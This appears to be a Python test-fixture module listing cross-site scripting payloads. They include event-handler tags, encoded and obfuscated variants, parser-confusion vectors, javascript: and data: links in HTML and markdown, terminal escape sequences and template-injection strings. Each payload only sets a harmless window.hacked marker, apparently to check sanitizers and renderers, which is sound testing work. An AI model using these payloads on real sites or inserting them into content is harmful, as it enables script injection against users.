"""Texts that would run a script wherever they are taken for markup: known kinds of attack, multiplied out.

Each sets `window.hacked`. Those in `MARKUP` are shown to do so in a page that has no defence.
"""

import base64
from itertools import product

HIT = "window.hacked=1"
B64 = base64.b64encode(HIT.encode()).decode()
PAGE = f"<script>parent.{HIT.removeprefix('window.')}</script>"

_TAGS = {
    "img src=x": "onerror onload",
    "img src=data:,": "onerror onloadend",
    "image src=x": "onerror",
    "svg": "onload onclick",
    "body": "onload onpageshow onfocus",
    "video src=x": "onerror onloadstart",
    "audio src=x": "onerror onloadstart",
    "video><source src=x": "onerror",
    "object data=x:": "onerror",
    "embed src=about:blank": "onload",
    "iframe src=about:blank": "onload",
    "details open": "ontoggle",
    "marquee loop=1 width=0": "onstart onfinish",
    "input autofocus": "onfocus onblur onfocusin",
    "textarea autofocus": "onfocus",
    "select autofocus": "onfocus",
    "button autofocus": "onfocus onclick onpointerover",
    "a tabindex=0 autofocus": "onfocus onmouseover onauxclick",
    "div tabindex=0 autofocus contenteditable": "onfocus onpaste onbeforeinput",
    "p style=animation:x": "onanimationstart onanimationend",
    "p style=transition:color": "ontransitionend ontransitionrun",
    "dialog open": "oncancel onclose",
    "style": "onload",
    "link rel=stylesheet href=data:text/css,": "onload onerror",
    "script src=data:,": "onload onerror",
}
HANDLERS = [f"<{tag} {handler}={HIT}>" for tag, handlers in _TAGS.items() for handler in handlers.split()]

WRITTEN_ODDLY = [
    f"<img/src=x/onerror={HIT}>",
    f"<img\tsrc=x\tonerror={HIT}>",
    f"<img\nsrc=x\nonerror={HIT}>",
    f"<img\fsrc=x\fonerror={HIT}>",
    f"<IMG SRC=x OnErRoR={HIT}>",
    f"<img src=x onerror='{HIT}'>",
    f'<img src=x onerror="{HIT}">',
    f"<img src=`x` onerror={HIT}>",
    f"<img src=x onerror\n=\n{HIT}>",
    f"<img src='x'onerror={HIT}>",
    f"<<img src=x onerror={HIT}>",
    f"<img src=x onerror={HIT} <p>",
    f"<img src=x onerror={HIT} //",
    f"<img x=' src=y' src=x onerror={HIT}>",
    "<img src=x onerror=&#119;indow.hacked=1>",
    "<img src=x onerror=&#x77;indow.hacked&equals;1>",
    "<img src=x onerror=&#0000119indow.hacked=1>",
    f"<img src=x onerror=eval(atob('{B64}'))>",
    "<img src=x onerror=\\u0077indow.hacked=1>",
    "<img src=x onerror=window['hac'+'ked']=1>",
    "<img src=x onerror=setTimeout`window.hacked\\x3d1`>",
    "<img src=x onerror=[1].find(()=>{window.hacked=1})>",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    f"%3Cimg src=x onerror={HIT}%3E",
    f"\\u003cimg src=x onerror={HIT}\\u003e",
    f"\uff1cimg src=x onerror={HIT}\uff1e",
    f"+ADw-img src=x onerror={HIT}+AD4-",
    f"<\u200bimg src=x onerror={HIT}>",
    f"\u202e<img src=x onerror={HIT}>",
]

_CLOSED_EARLY = ("title", "textarea", "noscript", "style", "template", "xmp", "iframe", "option", "noembed", "select")
OUT_OF_PLACE = [
    f"<script>{HIT}</script>",
    f"<SCRIPT\n>{HIT}</SCRIPT\n>",
    f"<script>/*</script><img src=x onerror={HIT}>*/",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f'"><script>{HIT}</script>',
    f"'><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<!--><img src=x onerror={HIT}>",
    f"<!--<img src='--><img src=x onerror={HIT}//'>",
    f"<![CDATA[><img src=x onerror={HIT}>]]>",
    f"<?xml ?><img src=x onerror={HIT}>",
    *(f"</{tag}><img src=x onerror={HIT}>" for tag in _CLOSED_EARLY),
    *(f"<{tag}><img title='</{tag}><img src=x onerror={HIT}>'>" for tag in ("noscript", "style", "xmp", "noembed")),
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<svg><p><style><img src=x onerror={HIT}></p>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f"<svg><desc><img src=x onerror={HIT}></desc></svg>",
    f'<svg><foreignObject><iframe srcdoc="{PAGE}"></iframe></foreignObject></svg>',
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate attributeName=x dur=1ms onbegin={HIT}>",
    f"<svg><set attributeName=x dur=1ms onend={HIT}>",
    f"<svg><a><animate attributeName=href values=javascript:{HIT} /><text y=20>click</text></a></svg>",
    f'<iframe srcdoc="{PAGE}"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.hacked=1&lt;/script&gt;"></iframe>',
    f"<template shadowrootmode=open><img src=x onerror={HIT}></template>",
    f'<meta http-equiv=refresh content="0;url=javascript:{HIT}">',
    f'<base href="javascript:{HIT}//">',
    "<style>*{background:url(javascript:window.hacked=1)}</style>",
    '<div style="width:expression(window.hacked=1);behavior:url(#x)">',
]

SCHEMES = [
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"java&#10;script:{HIT}",
    f"&#106;avascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"&#1;javascript:{HIT}",
    f"javascript://%0a{HIT}",
    f"vbscript:{HIT}",
    f"data:text/html,{PAGE}",
    f"data:text/html;base64,{base64.b64encode(PAGE.encode()).decode()}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>",
]
_CARRIERS = [
    '<a href="{}">click</a>',
    '<form action="{}"><button>click</button></form>',
    '<iframe src="{}"></iframe>',
    '<svg><a xlink:href="{}"><text y=20>click</text></a></svg>',
    "[click]({})",
    "[click](<{}> 'there')",
    "![there]({})",
    "<{}>",
    "[click][there]\n\n[there]: {}",
]
ADDRESSES = [carrier.format(scheme) for carrier, scheme in product(_CARRIERS, SCHEMES)]

MARKDOWN = [
    f'[a](x "\'onerror={HIT}")',
    f'![x](x"onerror="{HIT})',
    f"[<img src=x onerror={HIT}>](https://example.com)",
    f"```<img src=x onerror={HIT}>\n```",
    f"```html onload={HIT}\n<img src=x onerror={HIT}>\n```",
    f"`<img src=x onerror={HIT}>`",
    f"| <img src=x onerror={HIT}> |\n| --- |\n| <svg onload={HIT}> |",
    f"<details open ontoggle={HIT}>\n\n**there**\n\n</details>",
    f"- [ ] <input autofocus onfocus={HIT}>",
    f'https://example.com/"onmouseover="{HIT}',
    f"www.example.com/?<script>{HIT}</script>",
]
_ENDS = {"bell": "\x07", "terminator": "\x1b\\"}
TERMINAL = [
    *(f"\x1b]8;;javascript:{HIT}{end}click\x1b]8;;{end}" for end in _ENDS.values()),
    *(f"\x1b]8;;data:text/html,{PAGE}{end}click\x1b]8;;{end}" for end in _ENDS.values()),
    *(f"\x1b]0;<img src=x onerror={HIT}>{end}" for end in _ENDS.values()),
    f"\x1b[31m<img src=x onerror={HIT}>\x1b[0m",
    f"\x1b[38;2;1;2;3m\x1b[1m<svg onload={HIT}>",
    f'\x1b["><img src=x onerror={HIT}>m',
    f"progress 1 %\r<img src=x onerror={HIT}>",
]
TEMPLATES = [
    f"${{{HIT}}}",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"{{{{x=valueOf.name.constructor.fromCharCode;constructor.constructor('{HIT}')()}}}}",
    f"<%= {HIT} %>",
    f"#{{{HIT}}}",
    f"`+({HIT})+`",
    f"';{HIT};//",
    f'{{"__proto__":{{"innerHTML":"<img src=x onerror={HIT}>"}}}}',
    f'{{"type":"img","props":{{"src":"x","onerror":"{HIT}"}}}}',
    f'{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror={HIT}>"}}}}',
]

MARKUP = [*HANDLERS, *WRITTEN_ODDLY, *OUT_OF_PLACE, *ADDRESSES]
PAYLOADS = [*MARKUP, *MARKDOWN, *TERMINAL, *TEMPLATES]
